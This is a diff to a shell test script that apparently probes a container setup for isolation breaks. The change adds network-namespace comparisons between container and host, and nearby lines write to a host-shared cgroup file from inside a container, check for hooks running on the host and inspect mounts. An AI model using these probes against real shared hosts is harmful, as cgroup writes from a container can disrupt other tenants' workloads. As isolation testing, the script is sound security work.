@@ -78,8 +78,8 @@ for mode in "$@"; do
       podman exec attack30f-src sh -c "grep -E ' /sys/fs/cgroup/(pids|freezer) | /mnt ' /proc/self/mountinfo; echo 4096 > $in; cat /sys/fs/cgroup/freezer/freezer.state" 2>&1; echo "exec rc=$?"
       now=$(cat $f); echo "host $f: before $before, now $now"; [ "$now" = 4096 ] && echo "HOST CGROUP (conmon's, shared by the node's containers) written from the container"
       echo $before > $f; echo "put back: $(cat $f)";;
-    nsmnt|nsuts|nsipc|nspid|nsuser) podman exec attack30f-src sh -c 'for n in mnt uts ipc pid user; do echo "$n $(readlink /proc/self/ns/$n)"; done; ls / | tr "\n" " "; hostname; ls /etc/gpuckpt 2>&1' 2>&1; echo "exec rc=$?"
-      for n in mnt uts ipc pid user; do echo "host $n $(readlink /proc/self/ns/$n)"; done;;
+    nsnet|nsmnt|nsuts|nsipc|nspid|nsuser) podman exec attack30f-src sh -c 'cat /proc/net/dev | cut -c1-12 | tr "\n" " "; echo; for n in net mnt uts ipc pid user; do echo "$n $(readlink /proc/self/ns/$n)"; done; ls / | tr "\n" " "; hostname; ls /etc/gpuckpt 2>&1' 2>&1; echo "exec rc=$?"
+      for n in net mnt uts ipc pid user; do echo "host $n $(readlink /proc/self/ns/$n)"; done;;
     hook) ls -la /var/tmp/attack30f/hook-ran 2>&1 && cat /var/tmp/attack30f/hook-ran && echo "HOOK RAN ON THE HOST"; rm -f /var/tmp/attack30f/hook-ran;;
     mntdumper) podman exec attack30f-src sh -c 'readlink /proc/self/ns/mnt; grep -E " / | /mnt " /proc/self/mountinfo | head -3; ls / | tr "\n" " "; ls /etc/gpuckpt 2>&1' 2>&1; echo "exec rc=$?"; echo "host mnt ns: $(readlink /proc/self/ns/mnt)";;
     cgdev|devrule|devlist)
